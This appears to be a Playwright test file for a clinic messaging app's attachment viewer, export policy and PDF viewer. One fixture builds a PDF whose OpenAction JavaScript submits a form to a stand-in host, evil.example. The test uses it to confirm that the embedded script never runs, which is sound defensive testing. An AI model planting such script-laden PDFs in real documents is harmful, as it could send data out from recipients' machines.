// The full-size image viewer and "Save as…" (issue 16 §5-6): a receptionist sends two photos to a
// physician; the physician opens one full size from its thumbnail, goes between them with the
// arrow keys, zooms with + and −, saves with Ctrl+S (her policy allows export) and closes with
// Esc, focus back on the thumbnail. The receptionist's policy (the default) does not allow
// export: there is no "Save as…" anywhere and Ctrl+S saves nothing. Every open and the export
// are in the audit log with ids only. Real Prosody with mod_http_file_share, two browser
// harnesses (real AppCore, keychain, SQLCipher, sharp in main), Chromium; axe 0 light and dark.
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join, sep } from 'node:path';
import sharp from 'sharp';
import type { Locator } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AuditEntry } from '../../common/contract/domain';
import {
  axeViolations,
  dismissToasts,
  messageFromDirectory,
  person,
  screenshot,
  screenshotOnFailure,
  startClinic,
  type Clinic,
  type Workstation,
} from '../support/ui-support';

const DOMAIN = 'clinic.test';
const reception = person('reception', DOMAIN, 'Robin Reyes', 'reception');
const physician = person('dr.okafor', DOMAIN, 'Dr. Adaeze Okafor', 'physician');
const PHOTO = 'wound-left-ankle.jpg';
const SCAN = 'insurance-card.png';

let clinic: Clinic;
let rec: Workstation;
let doc: Workstation;
let photo: Buffer;
let scan: Buffer;

/** A 640×400 photo-like JPEG (a gradient with a darker oval) carrying EXIF with a GPS position. */
async function wounded(): Promise<Buffer> {
  const svg = Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" width="640" height="400"><defs><linearGradient id="g"><stop offset="0" stop-color="#e8b89a"/><stop offset="1" stop-color="#c98d72"/></linearGradient></defs><rect width="640" height="400" fill="url(#g)"/><ellipse cx="320" cy="200" rx="120" ry="70" fill="#8c3b2e"/></svg>`,
  );
  return sharp(svg)
    .jpeg({ quality: 85 })
    .withExif({ IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '51/1 30/1 0/1' } })
    .toBuffer();
}

/**
 * A two-page PDF (a red square, then a blue one) whose OpenAction is JavaScript: pdf.js must draw
 * the pages and never run the script.
 */
function pdfWithScript(): Buffer {
  const square = (rgb: string) => `${rgb} rg 20 20 160 160 re f`;
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>',
    '<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 6 0 R >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 7 0 R >>',
    "<< /S /JavaScript /JS (app.alert\\('pdf script ran'\\); this.submitForm\\('https://evil.example/'\\);) >>",
    ...['1 0 0', '0 0 1'].map((rgb) => `<< /Length ${square(rgb).length} >>\nstream\n${square(rgb)}\nendstream`),
  ];
  let out = '%PDF-1.7\n';
  const offsets: number[] = [];
  objects.forEach((o, i) => {
    offsets.push(out.length);
    out += `${i + 1} 0 obj\n${o}\nendobj\n`;
  });
  const xref = out.length;
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const off of offsets) out += `${String(off).padStart(10, '0')} 00000 n \n`;
  out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}
const PDF = 'lab-results.pdf';

/** A 300×190 card-like PNG. */
async function card(): Promise<Buffer> {
  const svg = Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" width="300" height="190"><rect width="300" height="190" rx="14" fill="#2f6db3"/><rect x="20" y="30" width="160" height="18" fill="#fff"/><rect x="20" y="70" width="220" height="12" fill="#dbe8f7"/><rect x="20" y="95" width="190" height="12" fill="#dbe8f7"/></svg>`,
  );
  return sharp(svg).png().toBuffer();
}

beforeAll(async () => {
  photo = await wounded();
  scan = await card();
  clinic = await startClinic('ui-attachment-viewer', [reception, physician]);
  rec = await clinic.open('reception-pc'); // the default policy: export not allowed
  // The physician's notifications may name the sender (notificationPreview 'sender').
  doc = await clinic.open('physician-laptop', { exportAllowed: true, notificationPreview: 'sender' });
  await clinic.signUp(rec.page, reception);
  await clinic.signUp(doc.page, physician);
});

afterAll(async () => {
  await clinic?.close();
});

screenshotOnFailure(() => ({ reception: rec, physician: doc }));

const fileCard = (w: Workstation, name: string) => w.page.getByTestId('attachment').filter({ hasText: name });
const viewer = (w: Workstation) => w.page.getByTestId('attachment-viewer');
const exportsOf = (name: string) => join(clinic.dir, `${name}-exports`);

async function attach(w: Workstation, name: string, mimeType: string, buffer: Buffer): Promise<void> {
  const chooser = w.page.waitForEvent('filechooser');
  await w.page.getByRole('button', { name: 'Attach', exact: true }).click();
  await (await chooser).setFiles({ name, mimeType, buffer });
  await w.page.getByRole('button', { name: 'Send', exact: true }).click();
  await fileCard(w, name).waitFor({ timeout: 30_000 });
}

async function auditOf(w: Workstation, type: AuditEntry['type']): Promise<AuditEntry[]> {
  const r = await w.harness.core.router.dispatch('audit:list', { before: null, limit: 200 });
  if (!r.ok) throw new Error(r.error.message);
  return (r.value as { items: AuditEntry[] }).items.filter((e) => e.type === type);
}

describe('the full-size viewer', () => {
  it('the receptionist sends two photos; the physician is told "Sent an attachment", nothing of the files', async () => {
    await messageFromDirectory(rec.page, physician);
    await attach(rec, PHOTO, 'image/jpeg', photo);
    await attach(rec, SCAN, 'image/png', scan);
    for (const name of [PHOTO, SCAN])
      await expect.poll(() => fileCard(rec, name).getAttribute('data-state'), { timeout: 45_000 }).toBe('sent');
    const toast = doc.page.getByTestId('toasts').filter({ hasText: 'Sent an attachment' });
    await toast.waitFor({ timeout: 30_000 });
    expect(await toast.textContent()).toContain(reception.name);
    expect(await toast.textContent()).not.toMatch(/wound|insurance|jpg|png/i);
  });

  it('the physician opens a photo full size, moves between images, zooms, saves with Ctrl+S and closes with Esc', async () => {
    await dismissToasts(doc.page);
    await messageFromDirectory(doc.page, reception);
    for (const name of [PHOTO, SCAN]) {
      const c = fileCard(doc, name);
      await c.waitFor({ timeout: 45_000 });
      await c.getByRole('button', { name: `Download ${name}` }).click();
      await expect.poll(() => c.getAttribute('data-state'), { timeout: 45_000 }).toBe('stored');
    }
    const open = fileCard(doc, PHOTO).getByRole('button', { name: `Open ${PHOTO} full size` });
    await open.waitFor({ timeout: 15_000 });
    await open.click();
    const v = viewer(doc);
    await v.waitFor();
    const img = v.getByTestId('viewer-image');
    await img.waitFor({ timeout: 15_000 });
    // The picture main re-encoded: full size, decoded for real.
    await expect
      .poll(() => img.evaluate((i: HTMLImageElement) => [i.naturalWidth, i.naturalHeight]), { timeout: 10_000 })
      .toEqual([640, 400]);
    expect(await img.getAttribute('src')).toMatch(/^blob:/);
    expect(await v.getByRole('heading', { level: 2 }).textContent()).toBe(PHOTO);
    expect(await v.getByTestId('viewer-position').textContent()).toContain('Image 1 of 2');
    // Focus stays in the modal viewer.
    expect(await doc.page.evaluate(() => document.querySelector('dialog')?.contains(document.activeElement))).toBe(
      true,
    );

    await doc.page.keyboard.press('ArrowRight');
    await expect.poll(() => v.getByRole('heading', { level: 2 }).textContent()).toBe(SCAN);
    expect(await v.getByTestId('viewer-position').textContent()).toContain('Image 2 of 2');
    await expect
      .poll(() => img.evaluate((i: HTMLImageElement) => [i.naturalWidth, i.naturalHeight]), { timeout: 10_000 })
      .toEqual([300, 190]);
    await doc.page.keyboard.press('ArrowRight'); // the last one: stays
    expect(await v.getByTestId('viewer-position').textContent()).toContain('Image 2 of 2');
    await doc.page.keyboard.press('ArrowLeft');
    await expect.poll(() => v.getByRole('heading', { level: 2 }).textContent()).toBe(PHOTO);
    await expect.poll(() => img.evaluate((i: HTMLImageElement) => i.naturalWidth), { timeout: 10_000 }).toBe(640);

    const shown = () => img.evaluate((i: HTMLImageElement) => i.getBoundingClientRect().width);
    await expect.poll(shown).toBeGreaterThan(0);
    const fitted = await shown();
    await doc.page.keyboard.press('+');
    await expect.poll(() => v.getByTestId('viewer-zoom').textContent()).toBe('150%');
    await expect.poll(shown).toBeCloseTo(fitted * 1.5, 0);
    await doc.page.keyboard.press('+');
    await expect.poll(() => v.getByTestId('viewer-zoom').textContent()).toBe('200%');
    await doc.page.keyboard.press('-');
    await expect.poll(() => v.getByTestId('viewer-zoom').textContent()).toBe('150%');
    await doc.page.keyboard.press('-');
    await expect.poll(() => v.getByTestId('viewer-zoom').textContent()).toBe('100%');
    await expect.poll(shown).toBeCloseTo(fitted, 0);

    await screenshot(doc.page, 'ui-attachment-viewer');

    // Export is allowed here: Ctrl+S saves the file as it was sent (main writes it where the save
    // dialog says): the photo's own image data, its EXIF (the GPS position) stripped by the sender.
    expect(await v.getByRole('button', { name: 'Save as…' }).count()).toBe(1);
    await doc.page.keyboard.press('Control+s');
    await v.getByRole('status').filter({ hasText: 'Saved.' }).waitFor({ timeout: 15_000 });
    const saved = readFileSync(join(exportsOf('physician-laptop'), PHOTO));
    expect((await sharp(photo).metadata()).exif).toBeDefined();
    expect((await sharp(saved).metadata()).exif).toBeUndefined();
    expect((await sharp(saved).raw().toBuffer()).equals(await sharp(photo).raw().toBuffer())).toBe(true);

    await doc.page.keyboard.press('Escape');
    await v.waitFor({ state: 'detached' });
    await expect.poll(() => open.evaluate((b) => b === document.activeElement)).toBe(true);

    // Audited with ids only: the opens in the viewer and the export.
    const opened = await auditOf(doc, 'attachment-opened');
    expect(opened.filter((e) => e.detail.view === 'viewer').length).toBeGreaterThanOrEqual(3);
    const [exported] = await auditOf(doc, 'export');
    expect(exported!.detail).toMatchObject({ kind: 'attachment', allowed: true });
    expect(JSON.stringify([...opened, exported])).not.toMatch(/wound|insurance/);
  });

  it('has no axe violations with the viewer open, in light and dark', async () => {
    await fileCard(doc, SCAN)
      .getByRole('button', { name: `Open ${SCAN} full size` })
      .click();
    await viewer(doc).getByTestId('viewer-image').waitFor({ timeout: 15_000 });
    for (const scheme of ['light', 'dark'] as const) {
      await doc.page.emulateMedia({ colorScheme: scheme, reducedMotion: 'reduce' });
      expect(await axeViolations(doc.page), `viewer, ${scheme}`).toEqual([]);
      if (scheme === 'dark') await screenshot(doc.page, 'ui-attachment-viewer-dark');
    }
    await doc.page.emulateMedia({ colorScheme: 'light' });
    await doc.page.keyboard.press('Escape');
    await viewer(doc).waitFor({ state: 'detached' });
    expect(await axeViolations(doc.page), 'conversation with Save as…').toEqual([]);
  });

  it('where export is not allowed, "Save as…" is absent and Ctrl+S saves nothing', async () => {
    const open = fileCard(rec, PHOTO).getByRole('button', { name: `Open ${PHOTO} full size` });
    await open.waitFor({ timeout: 15_000 });
    // Cards are drawn (with their thumbnails) before asking what they lack.
    expect(await rec.page.getByTestId('attachment-save').count()).toBe(0);
    await open.click();
    const v = viewer(rec);
    await v.getByTestId('viewer-image').waitFor({ timeout: 15_000 });
    expect(await v.getByRole('button', { name: 'Close' }).count()).toBe(1);
    expect(await v.getByRole('button', { name: 'Save as…' }).count()).toBe(0);
    expect(await v.textContent()).not.toContain('Ctrl+S');
    await rec.page.keyboard.press('Control+s');
    await rec.page.keyboard.press('ArrowRight');
    // The next image shows: the keys were handled, and the save was not.
    await expect.poll(() => v.getByRole('heading', { level: 2 }).textContent()).toBe(SCAN);
    const dir = exportsOf('reception-pc');
    expect(existsSync(dir) ? readdirSync(dir) : []).toEqual([]);
    expect(await auditOf(rec, 'export')).toEqual([]);
    expect(await axeViolations(rec.page), 'reception viewer').toEqual([]);
    await rec.page.keyboard.press('Escape');
    await v.waitFor({ state: 'detached' });
  });

  it('a PDF renders page by page with pdf.js in the renderer, zooms, and its JavaScript never runs', async () => {
    const dialogs: string[] = [];
    doc.page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss(); // nothing to wait for: the test fails on the message anyway
    });
    await attach(rec, PDF, 'application/pdf', pdfWithScript());
    await expect.poll(() => fileCard(rec, PDF).getAttribute('data-state'), { timeout: 45_000 }).toBe('sent');
    const c = fileCard(doc, PDF);
    await c.waitFor({ timeout: 45_000 });
    await c.getByRole('button', { name: `Download ${PDF}` }).click();
    await expect.poll(() => c.getAttribute('data-state'), { timeout: 45_000 }).toBe('stored');
    const view = c.getByRole('button', { name: `View PDF ${PDF}` });
    await view.click();
    const v = doc.page.getByTestId('pdf-viewer');
    await v.waitFor();
    await expect.poll(() => v.getByTestId('pdf-position').textContent(), { timeout: 20_000 }).toBe('Page 1 of 2');
    const canvas = v.getByTestId('pdf-page');
    /** The colour in the middle of the drawn page, once pdf.js finished drawing it. */
    const middle = async () => {
      if ((await canvas.getAttribute('data-rendering')) !== 'false') return null;
      return canvas.evaluate((cv: HTMLCanvasElement) => [
        ...cv
          .getContext('2d')!
          .getImageData(cv.width / 2, cv.height / 2, 1, 1)
          .data.slice(0, 3),
      ]);
    };
    await expect.poll(middle, { timeout: 20_000 }).toEqual([255, 0, 0]);
    await screenshot(doc.page, 'ui-attachment-pdf-viewer');
    // Zoom: drawn again at the larger scale (sharper, not stretched), shown larger; 0 fits again.
    const fitted = Number(await canvas.getAttribute('width'));
    const shown = () => canvas.evaluate((cv) => cv.getBoundingClientRect().width);
    const fittedShown = await shown();
    await doc.page.keyboard.press('+');
    await expect.poll(() => v.getByTestId('pdf-zoom').textContent()).toBe('150%');
    await expect.poll(async () => Number(await canvas.getAttribute('width'))).toBe(Math.floor(fitted * 1.5));
    await expect.poll(middle, { timeout: 20_000 }).toEqual([255, 0, 0]);
    await expect.poll(shown).toBeCloseTo(fittedShown * 1.5, 0);
    await v.getByRole('button', { name: 'Zoom in' }).click();
    await expect.poll(() => v.getByTestId('pdf-zoom').textContent()).toBe('200%');
    await expect.poll(shown).toBeCloseTo(fittedShown * 2, 0);
    await screenshot(doc.page, 'ui-attachment-pdf-viewer-zoomed');
    await doc.page.keyboard.press('0');
    await expect.poll(() => v.getByTestId('pdf-zoom').textContent()).toBe('100%');
    await expect.poll(async () => Number(await canvas.getAttribute('width'))).toBe(fitted);
    await expect.poll(shown).toBeCloseTo(fittedShown, 0);
    await doc.page.keyboard.press('ArrowRight');
    await expect.poll(() => v.getByTestId('pdf-position').textContent()).toBe('Page 2 of 2');
    await expect.poll(middle, { timeout: 20_000 }).toEqual([0, 0, 255]);
    expect(await axeViolations(doc.page), 'PDF viewer').toEqual([]);
    await doc.page.keyboard.press('Escape');
    await v.waitFor({ state: 'detached' });
    await expect.poll(() => view.evaluate((b) => b === document.activeElement)).toBe(true);
    expect(dialogs).toEqual([]);
  });

  it('"Open in another app": offered where export is allowed, for documents and pictures; the copy is handed over', async () => {
    // The receptionist's policy does not allow export: no such button on any card.
    await fileCard(rec, PDF).waitFor();
    expect(await rec.page.getByTestId('attachment-open-elsewhere').count()).toBe(0);
    const c = fileCard(doc, PDF);
    const button = c.getByRole('button', { name: `Open in another app: ${PDF}` });
    await button.click();
    await c.getByRole('status').filter({ hasText: 'Opened in another app.' }).waitFor();
    await screenshot(doc.page, 'ui-attachment-open-elsewhere');
    const [handed] = doc.harness.openedExternally;
    // A copy in the physician's profile folder, the PDF exactly as sent.
    expect(handed!.startsWith(clinic.dir)).toBe(true);
    expect(handed!.split(sep)).toContain('opened');
    expect(readFileSync(handed!).equals(pdfWithScript())).toBe(true);
    const [exported] = await auditOf(doc, 'export');
    expect(exported!.detail).toMatchObject({ kind: 'attachment', to: 'app', allowed: true });
    expect(JSON.stringify(exported)).not.toContain('lab-results');
    expect(await axeViolations(doc.page), 'card with Open in another app').toEqual([]);
  });

  it('drag-out: where export is allowed the card drags out as the file itself; no picture drags out anywhere', async () => {
    /** Starts a drag on it as the mouse would; true when the page's own drag was cancelled. */
    const dragStart = (l: Locator) =>
      l.evaluate((el) => {
        const e = new DragEvent('dragstart', { bubbles: true, cancelable: true });
        el.dispatchEvent(e);
        return e.defaultPrevented;
      });
    // The receptionist (export not allowed): the card offers no drag, and neither it nor the
    // photo's thumbnail starts one: nothing is handed to the system.
    const mine = fileCard(rec, PHOTO);
    await mine.getByTestId('attachment-thumbnail').waitFor();
    expect(await mine.getByTestId('attachment-drag').getAttribute('draggable')).toBeNull();
    expect(await dragStart(mine.getByTestId('attachment-drag'))).toBe(true);
    expect(await dragStart(mine.getByTestId('attachment-thumbnail'))).toBe(true);
    // The physician (export allowed): a picture still never drags out as itself…
    const photoCard = fileCard(doc, PHOTO);
    expect(await dragStart(photoCard.getByTestId('attachment-thumbnail'))).toBe(true);
    await photoCard.getByRole('button', { name: `Open ${PHOTO} full size` }).click();
    expect(await dragStart(viewer(doc).getByTestId('viewer-image'))).toBe(true);
    await doc.page.keyboard.press('Escape');
    await viewer(doc).waitFor({ state: 'detached' });
    expect(doc.harness.draggedOut).toEqual([]);
    // …the card's name does: the system's drag gets a copy in her profile folder, exactly as sent.
    const handle = fileCard(doc, PDF).getByTestId('attachment-drag');
    expect(await handle.getAttribute('draggable')).toBe('true');
    expect(await handle.getAttribute('title')).toBe(`Drag ${PDF} to a folder or another app`);
    expect(await dragStart(handle)).toBe(true);
    await expect.poll(() => doc.harness.draggedOut.length).toBe(1);
    const [dragged] = doc.harness.draggedOut;
    expect(dragged!.startsWith(clinic.dir)).toBe(true);
    expect(dragged!.split(sep)).toContain('opened');
    expect(readFileSync(dragged!).equals(pdfWithScript())).toBe(true);
    const [exported] = await auditOf(doc, 'export');
    expect(exported!.detail).toMatchObject({ kind: 'attachment', to: 'drag', allowed: true });
    expect(JSON.stringify(exported)).not.toContain('lab-results');
    expect(rec.harness.draggedOut).toEqual([]);
    expect((await auditOf(rec, 'export')).filter((e) => e.detail.to === 'drag')).toEqual([]);
  });

  it('ran with the CSP enforced and no script errors', () => {
    expect(rec.problems).toEqual([]);
    expect(doc.problems).toEqual([]);
  });
});
